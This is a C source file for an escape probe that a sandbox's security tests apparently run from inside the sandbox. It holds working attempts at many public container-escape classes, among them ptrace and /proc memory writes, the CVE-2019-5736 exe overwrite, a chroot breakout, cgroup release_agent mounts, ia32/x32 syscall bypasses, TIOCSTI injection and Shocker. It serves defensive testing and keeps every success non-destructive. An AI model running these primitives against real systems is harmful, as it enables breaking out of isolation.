/* escape_probe - escape attempts made from inside a sandbox by tests/security.
 *
 *   /probe ATTEMPT [ARGS...]
 *
 * Each attempt makes the raw system calls of one public escape class and
 * prints one line: "ok" (the attack step worked: the test fails) or the errno
 * name of the step that failed, "killed SIG" when the kernel or seccomp killed
 * it, or an attempt-specific verdict. Static and non-PIE, so it runs in any
 * rootfs and its globals sit below 4 GiB (the ia32 entry takes 32-bit
 * pointers). Never destructive when an attack succeeds: it appends a marker
 * or writes back what it read, so the test can see it and the rest of the
 * suite still runs. */
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <linux/io_uring.h>
#include <linux/keyctl.h>
#include <linux/mount.h>
#include <linux/nsfs.h>
#include <linux/sched.h>
#include <signal.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/ipc.h>
#include <sys/msg.h>
#include <sys/prctl.h>
#include <sys/ptrace.h>
#include <sys/sem.h>
#include <sys/shm.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/statvfs.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <termios.h>
#include <unistd.h>

#ifndef TIOCLINUX
#define TIOCLINUX 0x541C
#endif

static const char *ename(int e)
{
    static const struct {
        int e;
        const char *n;
    } t[] = {
        {EPERM, "EPERM"},
        {ENOENT, "ENOENT"},
        {ESRCH, "ESRCH"},
        {EIO, "EIO"},
        {EBADF, "EBADF"},
        {EAGAIN, "EAGAIN"},
        {ENOMEM, "ENOMEM"},
        {EACCES, "EACCES"},
        {EFAULT, "EFAULT"},
        {EBUSY, "EBUSY"},
        {EEXIST, "EEXIST"},
        {ENODEV, "ENODEV"},
        {ENOTDIR, "ENOTDIR"},
        {EISDIR, "EISDIR"},
        {EINVAL, "EINVAL"},
        {ENOTTY, "ENOTTY"},
        {ETXTBSY, "ETXTBSY"},
        {ENOSPC, "ENOSPC"},
        {EROFS, "EROFS"},
        {ENOSYS, "ENOSYS"},
        {ELOOP, "ELOOP"},
        {EIDRM, "EIDRM"},
        {ECONNREFUSED, "ECONNREFUSED"},
        {EXDEV, "EXDEV"},
        {ENOKEY, "ENOKEY"},
        {EOPNOTSUPP, "EOPNOTSUPP"},
        {ENOTCONN, "ENOTCONN"},
        {EDQUOT, "EDQUOT"},
        {ESTALE, "ESTALE"},
        {ENXIO, "ENXIO"},
    };
    for (size_t i = 0; i < sizeof t / sizeof t[0]; i++)
        if (t[i].e == e)
            return t[i].n;
    static char buf[32];
    snprintf(buf, sizeof buf, "errno%d", e);
    return buf;
}

/* Prints "ok" or "STEP:ERRNO"; returns 0 when the step worked. */
static int step(long rc, const char *what)
{
    if (rc >= 0)
        return 0;
    printf("%s%s%s\n", what ? what : "", what ? ":" : "", ename(errno));
    return 1;
}

static int ok(void)
{
    puts("ok");
    return 0;
}

/* Runs fn in a child so that a kill by seccomp (SIGSYS) is reported, not suffered. */
static int in_child(int (*fn)(char **), char **args)
{
    fflush(stdout);
    pid_t p = fork();
    if (p == 0)
        _exit(fn(args));
    int st;
    if (p < 0 || waitpid(p, &st, 0) < 0)
        return step(-1, "fork");
    if (WIFSIGNALED(st)) {
        printf("killed %d\n", WTERMSIG(st));
        return 1;
    }
    return WEXITSTATUS(st);
}

/* ---- the supervisor (lis-init) ---- */

static int do_ptrace(char **a)
{
    pid_t pid = (pid_t)atoi(a[0]);
    if (step(ptrace(PTRACE_ATTACH, pid, 0, 0), "attach"))
        return 1;
    waitpid(pid, NULL, __WALL);
    ptrace(PTRACE_DETACH, pid, 0, 0);
    return ok();
}

/* Seizes and stops PID, holds it stopped for SECS seconds. */
static int do_ptrace_stop(char **a)
{
    pid_t pid = (pid_t)atoi(a[0]);
    if (step(ptrace(PTRACE_SEIZE, pid, 0, 0), "seize") ||
        step(ptrace(PTRACE_INTERRUPT, pid, 0, 0), "interrupt"))
        return 1;
    ok();
    fflush(stdout);
    sleep((unsigned)atoi(a[1]));
    return 0;
}

/* Finds a mapping of pid in /proc/PID/maps: the first one, or the first
 * writable one (process_vm_writev does not write read-only pages). */
static uintptr_t first_mapping(pid_t pid, int writable)
{
    char path[64], line[256], perms[8];
    snprintf(path, sizeof path, "/proc/%d/maps", (int)pid);
    FILE *f = fopen(path, "r");
    uintptr_t lo = 0x400000, at; /* the text of a static non-PIE binary */
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "%lx-%*x %7s", &at, perms) == 2 && (!writable || perms[1] == 'w')) {
            lo = at;
            break;
        }
    if (f)
        fclose(f);
    return lo;
}

static int do_memwrite(char **a)
{
    pid_t pid = (pid_t)atoi(a[0]);
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/mem", (int)pid);
    int fd = open(path, O_RDWR);
    if (step(fd, "open"))
        return 1;
    uintptr_t at = first_mapping(pid, 0);
    char b;
    if (step(pread(fd, &b, 1, (off_t)at), "read") || step(pwrite(fd, &b, 1, (off_t)at), "write"))
        return 1;
    return ok();
}

static int do_vmwrite(char **a)
{
    pid_t pid = (pid_t)atoi(a[0]);
    char b = 0;
    struct iovec l = {&b, 1}, r = {(void *)first_mapping(pid, 1), 1};
    if (process_vm_readv(pid, &l, 1, &r, 1, 0) < 0 && errno != EFAULT)
        return step(-1, "readv");
    /* the same byte back: a successful write changes nothing but the verdict */
    if (step(process_vm_writev(pid, &l, 1, &r, 1, 0), "writev"))
        return 1;
    return ok();
}

/* pidfd_getfd of fds 0..MAX of PID: "got=N first-errno" */
static int do_getfd(char **a)
{
    pid_t pid = (pid_t)atoi(a[0]);
    int max = atoi(a[1]);
    int pfd = (int)syscall(SYS_pidfd_open, pid, 0);
    if (step(pfd, "pidfd_open"))
        return 1;
    int got = 0, first = 0;
    for (int i = 0; i <= max; i++) {
        int fd = (int)syscall(SYS_pidfd_getfd, pfd, i, 0);
        if (fd >= 0) {
            got++;
            close(fd);
        } else if (!first && errno != EBADF) {
            first = errno;
        }
    }
    printf("got=%d %s\n", got, first ? ename(first) : "-");
    return got != 0;
}

/* How many of /proc/PID/fd/N can be read as links. */
static int do_fdlinks(char **a)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%s/fd", a[0]);
    DIR *d = opendir(path);
    if (!d)
        return step(-1, "opendir");
    int n = 0;
    struct dirent *e;
    while ((e = readdir(d))) {
        char l[300], t[256];
        if (e->d_name[0] == '.')
            continue;
        snprintf(l, sizeof l, "%s/%s", path, e->d_name);
        if (readlink(l, t, sizeof t) >= 0)
            n++;
    }
    closedir(d);
    printf("links=%d\n", n);
    return n != 0;
}

/* CVE-2019-5736: reopen an executable for writing through /proc/PID/exe,
 * directly and through an O_PATH fd; appends a marker when it works. */
static int do_exe_write(char **a)
{
    int fd = open(a[0], O_WRONLY | O_APPEND);
    if (fd < 0) {
        int e = errno;
        int pfd = open(a[0], O_PATH);
        if (pfd < 0) {
            printf("open:%s path:%s\n", ename(e), ename(errno));
            return 1;
        }
        char via[64];
        snprintf(via, sizeof via, "/proc/self/fd/%d", pfd);
        fd = open(via, O_WRONLY | O_APPEND);
        if (fd < 0) {
            printf("open:%s reopen:%s\n", ename(e), ename(errno));
            return 1;
        }
    }
    if (step(write(fd, "LIS-ESCAPE\n", 11), "write"))
        return 1;
    return ok();
}

/* ---- fds, cwd and roots that lead out of the sandbox (CVE-2024-21626, /proc/PID/root) ---- */

static struct stat root_st;

/* Walks ".." from dirfd to its top; 1 when that top is not our "/". */
static int leads_out(int dirfd)
{
    int cur = dup(dirfd);
    struct stat a, b;
    if (cur < 0 || fstat(cur, &a) < 0)
        return 0;
    for (int i = 0; i < 256; i++) {
        int up = openat(cur, "..", O_PATH | O_DIRECTORY | O_CLOEXEC);
        if (up < 0 || fstat(up, &b) < 0)
            break;
        close(cur);
        cur = up;
        if (a.st_dev == b.st_dev && a.st_ino == b.st_ino)
            break;
        a = b;
    }
    close(cur);
    return a.st_dev != root_st.st_dev || a.st_ino != root_st.st_ino;
}

/* Checks one directory reached through a magic link; marks it when outside. */
static int check_dir(const char *link, int *outside)
{
    int fd = open(link, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    if (leads_out(fd)) {
        printf("outside %s\n", link);
        (*outside)++;
        int m = openat(fd, "LIS_ESCAPED", O_CREAT | O_WRONLY | O_CLOEXEC, 0644);
        if (m >= 0)
            close(m);
    }
    close(fd);
    return 1;
}

static int do_fdscan(char **a)
{
    (void)a;
    stat("/", &root_st);
    int outside = 0, seen = 0;
    DIR *d = opendir("/proc");
    struct dirent *e;
    while (d && (e = readdir(d))) {
        if (e->d_name[0] < '1' || e->d_name[0] > '9')
            continue;
        char p[300];
        snprintf(p, sizeof p, "/proc/%s/root", e->d_name);
        seen += check_dir(p, &outside);
        snprintf(p, sizeof p, "/proc/%s/cwd", e->d_name);
        seen += check_dir(p, &outside);
        snprintf(p, sizeof p, "/proc/%s/fd", e->d_name);
        DIR *fds = opendir(p);
        struct dirent *f;
        while (fds && (f = readdir(fds))) {
            if (f->d_name[0] == '.')
                continue;
            char l[600];
            snprintf(l, sizeof l, "%s/%s", p, f->d_name);
            seen += check_dir(l, &outside);
        }
        if (fds)
            closedir(fds);
    }
    if (d)
        closedir(d);
    if (!outside)
        printf("none (%d checked)\n", seen);
    return outside != 0;
}

static int do_cwdcheck(char **a)
{
    (void)a;
    stat("/", &root_st);
    int outside = 0;
    check_dir(".", &outside);
    if (!outside)
        puts("inside");
    return outside;
}

/* The classic chroot breakout (CAP_SYS_CHROOT is in Docker's default set):
 * chroot into a subdirectory while keeping the cwd outside, climb, chroot(".").
 * Then tries to read FILE (a host path). */
static int do_chroot_breakout(char **a)
{
    stat("/", &root_st);
    mkdir("/tmp/.cb", 0700);
    if (step(chroot("/tmp/.cb"), "chroot"))
        return 1;
    for (int i = 0; i < 64; i++)
        if (chdir("..") < 0)
            break;
    if (step(chroot("."), "chroot2"))
        return 1;
    struct stat now;
    stat("/", &now);
    int fd = open(a[0], O_RDONLY);
    if (now.st_dev != root_st.st_dev || now.st_ino != root_st.st_ino || fd >= 0) {
        puts("ok");
        return 0;
    }
    puts("inside");
    return 1;
}

/* ---- masked and read-only paths ---- */

/* "masked" when missing, empty when read, or an empty directory. */
static int do_masked(char **a)
{
    struct stat st;
    if (stat(a[0], &st) < 0) {
        printf("masked (%s)\n", ename(errno));
        return 0;
    }
    if (S_ISDIR(st.st_mode)) {
        DIR *d = opendir(a[0]);
        int n = 0;
        struct dirent *e;
        while (d && (e = readdir(d)))
            n += strcmp(e->d_name, ".") && strcmp(e->d_name, "..");
        if (d)
            closedir(d);
        printf(d && n == 0 ? "masked\n" : "visible: %d entries\n", n);
        return !(d && n == 0);
    }
    int fd = open(a[0], O_RDONLY | O_NONBLOCK);
    if (fd < 0) {
        printf("visible: open %s\n", ename(errno));
        return 1;
    }
    char buf[4096];
    ssize_t n = read(fd, buf, sizeof buf);
    close(fd);
    if (n == 0)
        return puts("masked"), 0;
    printf(n < 0 ? "visible: read %s\n" : "visible: %s bytes\n", n < 0 ? ename(errno) : "some");
    return 1;
}

static int do_statvfs(char **a)
{
    struct statvfs s;
    if (step(statvfs(a[0], &s), "statvfs"))
        return 1;
    puts(s.f_flag & ST_RDONLY ? "ro" : "rw");
    return 0;
}

static int do_write(char **a)
{
    int fd = open(a[0], O_WRONLY | O_CLOEXEC);
    if (step(fd, "open"))
        return 1;
    if (step(write(fd, a[1], strlen(a[1])), "write"))
        return 1;
    return ok();
}

/* ---- cgroup release_agent ---- */

static int do_cgroup_v1(char **a)
{
    mkdir("/tmp/cg", 0755);
    static const char *const ctl[] = {"rdma", "memory", "pids", "none,name=lis"};
    char opts[512];
    for (size_t i = 0; i < sizeof ctl / sizeof ctl[0]; i++) {
        snprintf(opts, sizeof opts, "%s,release_agent=%s", ctl[i], a[0]);
        if (syscall(SYS_mount, "cgroup", "/tmp/cg", "cgroup", 0, opts) == 0)
            return ok();
    }
    return step(-1, "mount");
}

static int do_fsopen_cgroup(char **a)
{
    int fs = (int)syscall(SYS_fsopen, "cgroup", 0);
    if (step(fs, "fsopen"))
        return 1;
    if (step(syscall(SYS_fsconfig, fs, FSCONFIG_SET_STRING, "release_agent", a[0], 0),
             "fsconfig") ||
        step(syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0), "create"))
        return 1;
    return ok();
}

/* ---- the new mount API ---- */

static int do_fsopen(char **a)
{
    int fs = (int)syscall(SYS_fsopen, a[0], 0);
    if (step(fs, "fsopen") ||
        step(syscall(SYS_fsconfig, fs, FSCONFIG_CMD_CREATE, NULL, NULL, 0), "create"))
        return 1;
    int m = (int)syscall(SYS_fsmount, fs, 0, 0);
    if (step(m, "fsmount") ||
        step(syscall(SYS_move_mount, m, "", AT_FDCWD, a[1], MOVE_MOUNT_F_EMPTY_PATH), "move_mount"))
        return 1;
    return ok();
}

static int do_open_tree(char **a)
{
    int t = (int)syscall(SYS_open_tree, AT_FDCWD, a[0], OPEN_TREE_CLONE | AT_RECURSIVE);
    if (step(t, "open_tree"))
        return 1;
    mkdir(a[1], 0755);
    if (step(syscall(SYS_move_mount, t, "", AT_FDCWD, a[1], MOVE_MOUNT_F_EMPTY_PATH), "move_mount"))
        return 1;
    return ok();
}

static int do_setattr_rw(char **a)
{
    struct mount_attr attr = {.attr_clr = MOUNT_ATTR_RDONLY};
    if (step(syscall(SYS_mount_setattr, AT_FDCWD, a[0], AT_RECURSIVE, &attr, sizeof attr),
             "mount_setattr"))
        return 1;
    return ok();
}

static int do_fspick_rw(char **a)
{
    int fs = (int)syscall(SYS_fspick, AT_FDCWD, a[0], 0);
    if (step(fs, "fspick") ||
        step(syscall(SYS_fsconfig, fs, FSCONFIG_SET_FLAG, "rw", NULL, 0), "fsconfig") ||
        step(syscall(SYS_fsconfig, fs, FSCONFIG_CMD_RECONFIGURE, NULL, NULL, 0), "reconfigure"))
        return 1;
    return ok();
}

/* ---- the ia32 (int 0x80) and x32 (syscall bit 30) entries ---- */

static char s_type[] = "user", s_desc[128], s_data[] = "lis-escape", s_fstype[] = "tmpfs",
            s_src[] = "none", s_dst[128], s_ch = 'x';

static long int80(long nr, long a1, long a2, long a3, long a4, long a5)
{
    long ret;
    /* the 64-bit kernel zeroes r8-r11 on this entry */
    __asm__ volatile("int $0x80"
                     : "=a"(ret)
                     : "a"(nr), "b"(a1), "c"(a2), "d"(a3), "S"(a4), "D"(a5)
                     : "memory", "r8", "r9", "r10", "r11", "cc");
    if (ret < 0 && ret > -4096) {
        errno = (int)-ret;
        return -1;
    }
    return ret;
}

static int ia32_call(char **a)
{
    const char *w = a[0];
    long rc;
    if (!strcmp(w, "add_key")) {
        snprintf(s_desc, sizeof s_desc, "%s", a[1]);
        rc = int80(286, (long)s_type, (long)s_desc, (long)s_data, 10, KEY_SPEC_SESSION_KEYRING);
    } else if (!strcmp(w, "unshare")) {
        rc = int80(310, CLONE_NEWUSER | CLONE_NEWNS, 0, 0, 0, 0);
    } else if (!strcmp(w, "mount")) {
        snprintf(s_dst, sizeof s_dst, "%s", a[1]);
        rc = int80(21, (long)s_src, (long)s_dst, (long)s_fstype, 0, 0);
    } else if (!strcmp(w, "ptrace")) {
        rc = int80(26, PTRACE_ATTACH, atoi(a[1]), 0, 0, 0);
    } else if (!strcmp(w, "tiocsti")) {
        rc = 0;
        for (const char *p = a[1]; *p && rc >= 0; p++) {
            s_ch = *p;
            rc = int80(54, 0, TIOCSTI, (long)&s_ch, 0, 0);
        }
    } else {
        return 2;
    }
    return step(rc, "ia32") ? 1 : ok();
}

#define X32_BIT 0x40000000L

static int x32_call(char **a)
{
    long rc;
    if (!strcmp(a[0], "add_key"))
        rc = syscall(X32_BIT | 248, "user", a[1], "lis-escape", 10, KEY_SPEC_SESSION_KEYRING);
    else if (!strcmp(a[0], "unshare"))
        rc = syscall(X32_BIT | 272, CLONE_NEWUSER | CLONE_NEWNS);
    else
        return 2;
    return step(rc, "x32") ? 1 : ok();
}

/* ---- terminals ---- */

/* Pushes TEXT into fd 0's input queue with TIOCSTI, the command word with
 * bits above 32 set when HIGH is 1 (the kernel ignores them). */
static int do_tiocsti(char **a)
{
    unsigned long cmd = TIOCSTI | (atoi(a[1]) ? 0x100000000ul : 0);
    for (const char *p = a[0]; *p; p++)
        if (step(syscall(SYS_ioctl, 0, cmd, p), "ioctl"))
            return 1;
    return ok();
}

static int do_tioclinux(char **a)
{
    (void)a;
    char sub = 3; /* TIOCL_PASTESEL: paste the console selection as input */
    return step(ioctl(0, TIOCLINUX, &sub), "ioctl") ? 1 : ok();
}

/* ---- other kernel interfaces ---- */

/* Shocker (2014): open a file of the host through a guessed handle of inode 2. */
static int do_shocker(char **a)
{
    (void)a;
    struct {
        unsigned int bytes;
        int type;
        unsigned char h[8];
    } fh = {8, 1, {2, 0, 0, 0, 0, 0, 0, 0}};
    int root = open("/", O_RDONLY | O_DIRECTORY);
    if (step(syscall(SYS_open_by_handle_at, root, &fh, O_RDONLY), "open_by_handle_at"))
        return 1;
    return ok();
}

static int do_io_uring(char **a)
{
    (void)a;
    struct io_uring_params p;
    memset(&p, 0, sizeof p);
    return step(syscall(SYS_io_uring_setup, 8, &p), "io_uring_setup") ? 1 : ok();
}

static int do_userfaultfd(char **a)
{
    (void)a;
    return step(syscall(SYS_userfaultfd, O_CLOEXEC), "userfaultfd") ? 1 : ok();
}

/* The parent of our user namespace, then setns into it. */
static int do_nsparent(char **a)
{
    (void)a;
    int fd = open("/proc/self/ns/user", O_RDONLY);
    if (step(fd, "open"))
        return 1;
    int parent = ioctl(fd, NS_GET_PARENT);
    if (parent < 0)
        parent = fd; /* still try to enter a namespace */
    if (step(syscall(SYS_setns, parent, CLONE_NEWUSER), parent == fd ? "parent" : "setns"))
        return 1;
    return ok();
}

static int do_clone3(char **a)
{
    (void)a;
    struct clone_args ca;
    memset(&ca, 0, sizeof ca);
    ca.flags = CLONE_NEWUSER | CLONE_NEWNS;
    ca.exit_signal = SIGCHLD;
    long pid = syscall(SYS_clone3, &ca, sizeof ca);
    if (pid == 0)
        _exit(0);
    if (step(pid, "clone3"))
        return 1;
    waitpid((pid_t)pid, NULL, 0);
    return ok();
}

/* Searches the session and user keyrings for a key "user"/DESC, reads @u. */
static int do_keyctl(char **a)
{
    long s = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_USER_KEYRING, "user", a[0], 0);
    if (s < 0)
        s = syscall(SYS_keyctl, KEYCTL_SEARCH, KEY_SPEC_SESSION_KEYRING, "user", a[0], 0);
    if (step(s, "search"))
        return 1;
    return ok();
}

/* ---- host objects ---- */

static int do_abstract(char **a)
{
    int dgram = a[1] && !strcmp(a[1], "dgram");
    int s = socket(AF_UNIX, dgram ? SOCK_DGRAM : SOCK_STREAM, 0);
    struct sockaddr_un un = {.sun_family = AF_UNIX};
    size_t n = strlen(a[0]);
    memcpy(un.sun_path + 1, a[0], n);
    socklen_t len = (socklen_t)(offsetof(struct sockaddr_un, sun_path) + 1 + n);
    if (dgram)
        return step(sendto(s, "x", 1, 0, (struct sockaddr *)&un, len), "sendto") ? 1 : ok();
    return step(connect(s, (struct sockaddr *)&un, len), "connect") ? 1 : ok();
}

/* SysV IPC of KIND (shm|msg|sem) with KEY and ID: look it up, attach, remove. */
static int do_ipc(char **a)
{
    key_t key = (key_t)strtol(a[1], NULL, 0);
    int id = atoi(a[2]), wins = 0;
    long g, u, r;
    if (!strcmp(a[0], "shm")) {
        g = shmget(key, 0, 0);
        void *p = shmat(id, NULL, 0);
        u = p == (void *)-1 ? -1 : 0;
        r = shmctl(id, IPC_RMID, NULL);
    } else if (!strcmp(a[0], "msg")) {
        g = msgget(key, 0);
        struct {
            long t;
            char c[8];
        } m = {1, "escape"};
        u = msgsnd(id, &m, sizeof m.c, IPC_NOWAIT);
        r = msgctl(id, IPC_RMID, NULL);
    } else {
        g = semget(key, 0, 0);
        struct sembuf op = {0, 1, IPC_NOWAIT};
        u = semop(id, &op, 1);
        r = semctl(id, 0, IPC_RMID);
    }
    wins = (g >= 0) + (u >= 0) + (r >= 0);
    printf("get=%s use=%s rm=%s\n", g >= 0 ? "ok" : "fail", u >= 0 ? "ok" : "fail",
           r >= 0 ? "ok" : "fail");
    return wins != 0;
}

/* ---- limits ---- */

static int do_alloc(char **a)
{
    size_t mb = (size_t)atol(a[0]);
    for (size_t i = 0; i < mb; i++) {
        char *p = malloc(1 << 20);
        if (!p)
            return step(-1, "malloc");
        memset(p, 1, 1 << 20);
    }
    return ok();
}

/* Forks up to N children that wait to be killed; prints how many it got. */
static int do_forks(char **a)
{
    int n = atoi(a[0]), got = 0;
    static pid_t kids[4096];
    if (n > 4096)
        n = 4096;
    for (; got < n; got++) {
        pid_t p = fork();
        if (p == 0) {
            prctl(PR_SET_PDEATHSIG, SIGKILL);
            pause();
            _exit(0);
        }
        if (p < 0)
            break;
        kids[got] = p;
    }
    printf("forked=%d\n", got);
    fflush(stdout);
    for (int i = 0; i < got; i++)
        kill(kids[i], SIGKILL);
    while (wait(NULL) > 0)
        ;
    return 0;
}

static const struct {
    const char *name;
    int (*fn)(char **);
    int nargs;
    int child;
} attempts[] = {
    {"ptrace", do_ptrace, 1, 0},
    {"ptrace-stop", do_ptrace_stop, 2, 0},
    {"memwrite", do_memwrite, 1, 0},
    {"vmwrite", do_vmwrite, 1, 0},
    {"getfd", do_getfd, 2, 0},
    {"fdlinks", do_fdlinks, 1, 0},
    {"exe-write", do_exe_write, 1, 0},
    {"fdscan", do_fdscan, 0, 0},
    {"cwdcheck", do_cwdcheck, 0, 0},
    {"chroot-breakout", do_chroot_breakout, 1, 0},
    {"masked", do_masked, 1, 0},
    {"statvfs", do_statvfs, 1, 0},
    {"write", do_write, 2, 0},
    {"cgroup-v1", do_cgroup_v1, 1, 1},
    {"fsopen-cgroup", do_fsopen_cgroup, 1, 1},
    {"fsopen", do_fsopen, 2, 1},
    {"open-tree", do_open_tree, 2, 1},
    {"setattr-rw", do_setattr_rw, 1, 1},
    {"fspick-rw", do_fspick_rw, 1, 1},
    {"ia32", ia32_call, 2, 1},
    {"x32", x32_call, 2, 1},
    {"tiocsti", do_tiocsti, 2, 1},
    {"tioclinux", do_tioclinux, 0, 1},
    {"shocker", do_shocker, 0, 1},
    {"io_uring", do_io_uring, 0, 1},
    {"userfaultfd", do_userfaultfd, 0, 1},
    {"nsparent", do_nsparent, 0, 1},
    {"clone3", do_clone3, 0, 1},
    {"keyctl", do_keyctl, 1, 1},
    {"abstract", do_abstract, 1, 0},
    {"ipc", do_ipc, 3, 0},
    {"alloc", do_alloc, 1, 1},
    {"forks", do_forks, 1, 0},
};

int main(int argc, char **argv)
{
    setvbuf(stdout, NULL, _IOLBF, 0);
    for (size_t i = 0; argc >= 2 && i < sizeof attempts / sizeof attempts[0]; i++) {
        if (strcmp(argv[1], attempts[i].name))
            continue;
        if (argc - 2 < attempts[i].nargs) {
            fprintf(stderr, "escape_probe %s: %d arguments expected\n", argv[1], attempts[i].nargs);
            return 2;
        }
        return attempts[i].child ? in_child(attempts[i].fn, argv + 2) : attempts[i].fn(argv + 2);
    }
    fprintf(stderr, "usage: escape_probe ATTEMPT [ARGS...]\n");
    return 2;
}
